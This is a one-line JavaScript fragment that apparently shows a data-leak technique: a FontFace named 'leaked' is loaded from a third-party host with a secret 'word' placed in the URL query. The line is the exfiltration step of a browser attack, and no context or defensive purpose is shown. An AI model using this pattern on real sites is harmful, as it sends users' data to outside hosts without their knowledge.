new FontFace("leaked", `url("${third}/?${word}")`).load();
